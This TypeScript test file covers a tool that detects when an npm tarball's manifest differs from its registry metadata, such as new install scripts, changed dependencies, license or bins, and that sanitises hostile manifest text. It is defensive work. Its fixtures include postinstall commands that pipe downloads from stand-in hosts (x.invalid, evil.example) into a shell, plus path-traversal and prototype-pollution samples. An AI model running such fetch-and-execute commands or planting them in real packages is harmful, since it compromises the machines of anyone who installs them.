import { RULE_FIELDS } from '../../../src/core/inspection';
import { bundledNames, effectiveInstallScripts, inspectTarball, mismatchInBrief, normalizedBins, sanitizeManifest } from '../../../src/core/manifest-compare';
import { readTarballManifest } from '../../../src/core/tarball-manifest';
import { buildTarball, integrityOf } from '../../support/tarball';

const NOW = new Date('2026-01-02T03:04:05.000Z');
const INTEGRITY = 'sha512-abc';

const base = {
  name: 'pkg',
  version: '1.0.0',
  license: 'MIT',
  scripts: { test: 'jest' },
  dependencies: { a: '^1.0.0', opt: '^2.0.0' },
  optionalDependencies: { opt: '^2.0.0' },
  peerDependencies: { react: '>=18' },
};

function inspect(declared: Record<string, unknown>, actual: Record<string, unknown>, hasBindingGyp = false) {
  return inspectTarball(declared, { manifest: actual, hasBindingGyp }, INTEGRITY, NOW);
}

describe('inspectTarball', () => {
  it('finds nothing when the tarball says what the packument says (as npm publishes: optional deps also under dependencies)', () => {
    const tarball = { ...base, dependencies: { a: '^1.0.0' } };
    const result = inspect({ ...base, _id: 'pkg@1.0.0', dist: { tarball: 'x' } }, tarball);
    expect(result).toEqual({
      name: 'pkg',
      version: '1.0.0',
      manifest: tarball,
      hasBindingGyp: false,
      mismatches: [],
      integrity: INTEGRITY,
      inspectedAt: NOW,
    });
  });

  it('reports another name and version (normalised as npm publishes them)', () => {
    expect(inspect(base, { ...base, version: 'v1.0.0', name: ' pkg ' }).mismatches).toEqual([]);
    expect(inspect(base, { ...base, version: '1.0.0+build.5' }).mismatches).toEqual([]);
    const result = inspect(base, { ...base, name: 'other', version: '2.0.0' });
    expect(result.mismatches).toEqual([
      { field: 'name', declared: 'pkg', actual: 'other' },
      { field: 'version', declared: '1.0.0', actual: '2.0.0' },
    ]);
    expect(result.name).toBe('pkg');
    expect(inspect(base, { ...base, version: undefined }).mismatches).toEqual([{ field: 'version', declared: '1.0.0', actual: null }]);
    expect(inspect(base, { ...base, name: ['pkg'] }).mismatches).toEqual([{ field: 'name', declared: 'pkg', actual: '["pkg"]' }]);
  });

  it('reports install scripts the packument does not declare', () => {
    const result = inspect(base, { ...base, scripts: { test: 'jest', postinstall: 'curl http://x.invalid | sh' } });
    expect(result.mismatches).toEqual([{ field: 'installScripts', declared: {}, actual: { postinstall: 'curl http://x.invalid | sh' } }]);
    expect(RULE_FIELDS).toContain(result.mismatches[0].field);
    // Changed and removed scripts count too; other scripts and empty ones do not.
    expect(inspect({ ...base, scripts: { install: 'a' } }, { ...base, scripts: { install: 'b' } }).mismatches[0]).toMatchObject({ field: 'installScripts' });
    expect(inspect({ ...base, scripts: { install: 'a' } }, base).mismatches[0]).toEqual({ field: 'installScripts', declared: { install: 'a' }, actual: {} });
    expect(inspect({ ...base, scripts: { prepare: 'x', postinstall: '' } }, { ...base, scripts: { build: 'y' } }).mismatches).toEqual([]);
  });

  it('shows two long scripts that differ only past the display length from where they part', () => {
    const long = `node scripts/setup.js ${'--flag '.repeat(300)}`.trim();
    const result = inspect({ ...base, scripts: { install: 'make', postinstall: long } }, { ...base, scripts: { install: 'make', postinstall: `${long} && curl -s https://evil.example/x | sh` } });
    const [m] = result.mismatches as Array<{ field: string; declared: Record<string, string>; actual: Record<string, string> }>;
    expect(m.field).toBe('installScripts');
    expect(m.declared.install).toBe('make');
    expect(m.actual.install).toBe('make');
    expect(m.declared.postinstall).toMatch(/^\.\.\.[-a-z ]+ --flag$/);
    expect(m.actual.postinstall).toMatch(/^\.\.\.[-a-z ]+ --flag && curl -s https:\/\/evil\.example\/x \| sh$/);
    expect(m.declared.postinstall).not.toBe(m.actual.postinstall);
    expect(mismatchInBrief(result.mismatches[0])).toBe('postinstall script changed');
    // Scripts that differ early are shown from their start, as before.
    expect(inspect({ ...base, scripts: { install: 'a' } }, { ...base, scripts: { install: 'b' } }).mismatches[0]).toEqual({ field: 'installScripts', declared: { install: 'a' }, actual: { install: 'b' } });
  });

  it('says each mismatch in a few words, naming what differs without quoting long values', () => {
    const brief = (declared: Record<string, unknown>, actual: Record<string, unknown>) => inspect(declared, actual).mismatches.map(mismatchInBrief);
    const script = 'x'.repeat(2000);
    expect(brief(base, { ...base, scripts: { postinstall: script } })).toEqual(['postinstall script added']);
    expect(brief({ ...base, scripts: { preinstall: 'a', install: 'b' } }, { ...base, scripts: { install: 'c', postinstall: script } })).toEqual([
      'preinstall script removed, install script changed, postinstall script added',
    ]);
    expect(brief({ name: 'pkg', version: '1.0.0', hasInstallScript: false }, { name: 'pkg', version: '1.0.0', scripts: { postinstall: script } })).toEqual(['postinstall script added']);
    expect(brief({ name: 'pkg', version: '1.0.0', hasInstallScript: true }, { name: 'pkg', version: '1.0.0' })).toEqual(['install scripts removed']);
    expect(brief(base, { ...base, name: 'evil', version: '9.9.9' })).toEqual(["name is 'evil'", "version is '9.9.9'"]);
    expect(brief(base, { ...base, license: 'GPL-3.0-only' })).toEqual(["license is 'GPL-3.0-only', not 'MIT'"]);
    expect(brief(base, { ...base, dependencies: { ...base.dependencies, evil: script } })).toEqual(['dependencies.evil added']);
    const many = Object.fromEntries(Array.from({ length: 14 }, (_, i) => [`dep${String(i).padStart(2, '0')}`, '1.0.0']));
    expect(brief(base, { ...base, dependencies: { ...base.dependencies, ...many } })).toEqual(['dependencies.dep00 added, dependencies.dep01 added, dependencies.dep02 added and 11 more']);
    // A stored mismatch whose two displays agree (older inspections cut both at 120 characters) names the scripts it has.
    expect(mismatchInBrief({ field: 'installScripts', declared: { postinstall: 'a…' }, actual: { postinstall: 'a…' } })).toBe('postinstall script changed');
    expect(mismatchInBrief({ field: 'installScripts', declared: undefined, actual: { install: 'x' } })).toBe('install script added');
    expect(mismatchInBrief({ field: 'name', declared: 'pkg', actual: `\u001b[31m${'n'.repeat(100)}` })).toMatch(/^name is '\?\[31mn+\.\.\.'$/);
  });

  it('counts a binding.gyp without install or preinstall as `node-gyp rebuild`', () => {
    const declaredGyp = { ...base, scripts: { install: 'node-gyp rebuild' }, gypfile: true };
    expect(inspect(declaredGyp, base, true).mismatches).toEqual([]);
    expect(inspect(base, base, true).mismatches).toEqual([{ field: 'installScripts', declared: {}, actual: { install: 'node-gyp rebuild' } }]);
    // Its own install script wins over node-gyp; gypfile: false turns node-gyp off.
    expect(inspect({ ...base, scripts: { install: 'make' } }, { ...base, scripts: { install: 'make' } }, true).mismatches).toEqual([]);
    expect(inspect(base, { ...base, gypfile: false }, true).mismatches).toEqual([]);
    expect(effectiveInstallScripts({ scripts: { preinstall: 'p' } }, true)).toEqual({ preinstall: 'p' });
    expect(effectiveInstallScripts({ gypfile: true }, false)).toEqual({ install: 'node-gyp rebuild' });
  });

  it('compares with hasInstallScript when the declared manifest is abbreviated', () => {
    const abbreviated = { name: 'pkg', version: '1.0.0', hasInstallScript: true };
    expect(inspect(abbreviated, { name: 'pkg', version: '1.0.0', scripts: { postinstall: 'x' } }).mismatches).toEqual([]);
    expect(inspect({ ...abbreviated, hasInstallScript: false }, { name: 'pkg', version: '1.0.0' }, true).mismatches).toEqual([
      { field: 'installScripts', declared: { hasInstallScript: false }, actual: { install: 'node-gyp rebuild' } },
    ]);
  });

  it('reports another license (read as the license policy reads it)', () => {
    expect(inspect(base, { ...base, license: { type: 'MIT', url: 'http://x.invalid' } }).mismatches).toEqual([]);
    expect(inspect(base, { ...base, license: 'GPL-3.0-only' }).mismatches).toEqual([{ field: 'license', declared: 'MIT', actual: 'GPL-3.0-only' }]);
    expect(inspect(base, { ...base, license: undefined }).mismatches).toEqual([{ field: 'license', declared: 'MIT', actual: 'no license field' }]);
  });

  it('reports added, removed and changed dependencies of each kind, briefly', () => {
    const tarball = {
      ...base,
      dependencies: { a: '^1.1.0', evil: '1.0.0' },
      optionalDependencies: {},
      peerDependencies: { react: '>=18', vue: '*' },
    };
    expect(inspect(base, tarball).mismatches).toEqual([
      {
        field: 'dependencies',
        declared: { 'dependencies.a': '^1.0.0', 'dependencies.evil': null, 'optionalDependencies.opt': '^2.0.0', 'peerDependencies.vue': null },
        actual: { 'dependencies.a': '^1.1.0', 'dependencies.evil': '1.0.0', 'optionalDependencies.opt': null, 'peerDependencies.vue': '*' },
      },
    ]);
    const many = Object.fromEntries(Array.from({ length: 25 }, (_, i) => [`dep-${String(i).padStart(2, '0')}`, '1.0.0']));
    const [mismatch] = inspect({ ...base, optionalDependencies: undefined, dependencies: {}, peerDependencies: undefined }, { name: 'pkg', version: '1.0.0', license: 'MIT', dependencies: many }).mismatches;
    expect(Object.keys(mismatch.actual as object)).toHaveLength(11);
    expect((mismatch.actual as Record<string, unknown>)['…']).toBe('15 more differences');
  });

  it('keeps hostile text out of display values and the stored manifest', () => {
    const script = `node x.js\u0000\r\nSet-Cookie: a=b ${'y'.repeat(500)}`;
    const tarball = JSON.parse(
      JSON.stringify({ ...base, scripts: { postinstall: script }, description: 'a\u0000b', nested: { 'k\u0000ey': ['\u0000'] } }),
    ) as Record<string, unknown>;
    Object.defineProperty(tarball, '__proto__', { value: { polluted: true }, enumerable: true });
    const result = inspect(base, tarball);
    const shown = (result.mismatches[0].actual as Record<string, string>).postinstall;
    expect(shown).toMatch(/^node x\.js Set-Cookie: a=b y+…$/);
    expect(shown.length).toBe(120);
    expect(JSON.stringify(result.manifest)).not.toContain('\\u0000');
    expect(result.manifest.description).toBe('ab');
    expect(result.manifest.nested).toEqual({ key: [''] });
    expect(Object.getPrototypeOf(result.manifest)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(result.manifest)).toContain('__proto__');
  });

  it('keeps lone UTF-16 surrogates (which jsonb cannot hold) out of the stored manifest and display values, and keeps pairs whole', () => {
    const pair = '\ud83d\ude00';
    const tarball = { ...base, description: `x\ud800y\udc00z${pair}`, scripts: { postinstall: `${'a'.repeat(118)}${pair}b\udbffb` }, nested: { 'k\udfffey': ['\ud800'] } };
    const result = inspect(base, tarball);
    expect(result.manifest.description).toBe(`xyz${pair}`);
    expect(result.manifest.nested).toEqual({ key: [''] });
    // Cut at 120 characters, before the pair rather than between its halves.
    const shown = (result.mismatches[0].actual as Record<string, string>).postinstall;
    expect(shown).toBe(`${'a'.repeat(118)}…`);
    const loneSurrogate = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
    expect(JSON.stringify(result)).not.toMatch(/\\ud[89ab]/i);
    for (const text of [JSON.stringify(result.manifest), shown]) expect(loneSurrogate.test(text)).toBe(false);
  });

  it('never lets a key that had to be cleaned replace one that did not', () => {
    const manifest = JSON.parse('{"license\\ud800":"GPL-3.0","license":"MIT","scripts":{"post\\u0000install":"x","postinstall":"y"},"only\\udc00":1}') as Record<string, unknown>;
    expect(sanitizeManifest(manifest)).toEqual({ license: 'MIT', scripts: { postinstall: 'y' }, only: 1 });
    const reversed = JSON.parse('{"license":"MIT","license\\ud800":"GPL-3.0"}') as Record<string, unknown>;
    expect(sanitizeManifest(reversed)).toEqual({ license: 'MIT' });
  });

  it('cuts the stored manifest at 64 levels of nesting', () => {
    let deep: unknown = 'bottom';
    for (let i = 0; i < 100; i++) deep = { d: deep };
    const clean = sanitizeManifest({ deep }) as Record<string, unknown>;
    let depth = 0;
    let node: unknown = clean;
    while (node && typeof node === 'object') {
      node = (node as Record<string, unknown>).deep ?? (node as Record<string, unknown>).d;
      depth++;
    }
    expect(depth).toBe(64);
    expect(() => JSON.stringify(clean)).not.toThrow();
  });

  it('works on what readTarballManifest reads', () => {
    const tgz = buildTarball({
      'package.json': JSON.stringify({ name: 'pkg', version: '1.0.0', license: 'MIT' }),
      'binding.gyp': '{}',
    });
    const result = inspectTarball({ name: 'pkg', version: '1.0.0', license: 'MIT' }, readTarballManifest(tgz), integrityOf(tgz), NOW);
    expect(result.hasBindingGyp).toBe(true);
    expect(result.integrity).toBe(integrityOf(tgz));
    expect(result.mismatches).toEqual([{ field: 'installScripts', declared: {}, actual: { install: 'node-gyp rebuild' } }]);
  });
});

describe('bins and bundled dependencies, as npm normalises them', () => {
  it('normalises bin as npm publishes it: a string under the name (scoped: its last part), base-name keys, relative paths without ./', () => {
    expect(normalizedBins({ name: 'tool', bin: './cli.js' })).toEqual({ tool: 'cli.js' });
    expect(normalizedBins({ name: '@acme/tool', bin: 'bin/cli.js' })).toEqual({ tool: 'bin/cli.js' });
    expect(normalizedBins({ name: 'tool', bin: { tool: './bin//cli.js', 'x/y': '../../etc/passwd', '': 'a.js', n: 1 } })).toEqual({ tool: 'bin/cli.js', y: 'etc/passwd' });
    expect(normalizedBins({ name: 'tool', bin: ['./a.js', 'bin/b'] })).toEqual({ 'a.js': 'a.js', b: 'bin/b' });
    expect(normalizedBins({ name: 'tool', bin: 'win\\cli.js' })).toEqual({ tool: 'win/cli.js' });
    expect(normalizedBins({ bin: './cli.js' })).toEqual({});
    expect(normalizedBins({ name: 'tool' })).toEqual({});
  });

  it('reads bundleDependencies under either spelling; true bundles every dependency', () => {
    expect(bundledNames({ bundleDependencies: ['b', 'a', 'a'] })).toEqual(['a', 'b']);
    expect(bundledNames({ bundledDependencies: ['a'] })).toEqual(['a']);
    expect(bundledNames({ bundleDependencies: true, dependencies: { x: '1', y: '2' } })).toEqual(['x', 'y']);
    expect(bundledNames({ bundleDependencies: false, bundledDependencies: ['a'] })).toEqual([]);
    expect(bundledNames({})).toEqual([]);
  });

  it('finds no difference between a normalised manifest and the raw package.json it came from', () => {
    const raw = { ...base, bin: './cli.js', bundledDependencies: ['a'] };
    const sent = { ...base, bin: { pkg: 'cli.js' }, bundleDependencies: ['a'] };
    expect(inspect(sent, raw).mismatches).toEqual([]);
    // A tarball with directories.bin: the client expanded it into files of that folder.
    expect(inspect({ ...base, bin: { a: 'bin/a', b: 'bin/sub/b' } }, { ...base, directories: { bin: './bin/' } }).mismatches).toEqual([]);
  });

  it('reports a bin the tarball adds, drops or points elsewhere, and a bin outside directories.bin', () => {
    expect(inspect({ ...base, bin: { pkg: 'cli.js' } }, { ...base, bin: { pkg: 'evil.js', other: 'x.js' } }).mismatches).toEqual([
      { field: 'bin', declared: { other: null, pkg: 'cli.js' }, actual: { other: 'x.js', pkg: 'evil.js' } },
    ]);
    expect(inspect(base, { ...base, bin: './cli.js' }).mismatches).toEqual([{ field: 'bin', declared: { pkg: null }, actual: { pkg: 'cli.js' } }]);
    expect(inspect({ ...base, bin: { ls: 'lib/evil.js' } }, { ...base, directories: { bin: 'bin' } }).mismatches).toEqual([
      { field: 'bin', declared: { ls: 'lib/evil.js' }, actual: { 'directories.bin': 'bin' } },
    ]);
  });

  it('reports bundled dependencies the two disagree on', () => {
    expect(inspect(base, { ...base, bundleDependencies: ['a'] }).mismatches).toEqual([
      { field: 'dependencies', declared: { 'bundleDependencies.a': null }, actual: { 'bundleDependencies.a': 'bundled' } },
    ]);
  });
});
